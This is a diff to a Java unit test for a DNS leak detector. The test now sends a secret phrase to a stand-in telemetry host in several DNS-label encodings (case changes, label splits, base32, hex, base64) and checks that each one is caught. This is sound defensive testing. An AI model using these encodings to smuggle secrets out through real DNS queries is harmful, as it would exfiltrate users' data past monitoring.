@@ -25,6 +25,8 @@ import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 
 /** The JDK's DNS client asks our name server, which asks the lab's. */
 class NameServerTest {
@@ -68,13 +70,15 @@ class NameServerTest {
         assertThat(ask("pages.leakgate.test", "A")).isEqualTo("198.18.0.1");
     }
 
-    @Test
-    void a_secret_in_a_label_is_a_leak_to_the_resolver() throws NamingException {
+    /** A label has 63 bytes at most (RFC 1035, 2.3.4), and nobody promises to keep its case. */
+    @ParameterizedTest
+    @ValueSource(strings = {"amber-otter-4711", "AMBER.OTTER.4711", "amber_otter_4711", "mfwwezlsebxxi5dfoiqdinzrge", "MFWWEZLSEBXXI5DFOIQDINZRGE", "c5mm4pbi41nn8t35e8g38dph64", "7.mfwwezlsebxx.i5dfoiqdinzrge", "mFwWeZlSeBxXi5dFoIqDiNzRgE",
+            "616d626572206f747465722034373131", "616D626572206F74.7465722034373131", "q-616d626572206f747465722034373131-1", "YW1iZXIgb3R0ZXIgNDcxMQ", "mfwwezlsebxx.i5dfoiqdinzrge.co"})
+    void a_secret_in_labels_is_a_leak_to_the_resolver(String labels) throws NamingException {
         Secret query = new Secret(SecretKind.QUERY, "amber otter 4711", "trial");
-        ask("amber-otter-4711.telemetry.example", "A");
+        ask(labels + ".telemetry.example", "A");
 
         List<Sighting> sightings = LeakDetector.of(List.of(query)).detect(capture()).sightings();
-
         assertThat(sightings).isNotEmpty().allSatisfy(s -> assertThat(s.host()).isEqualTo("127.0.0.1"));
     }
 
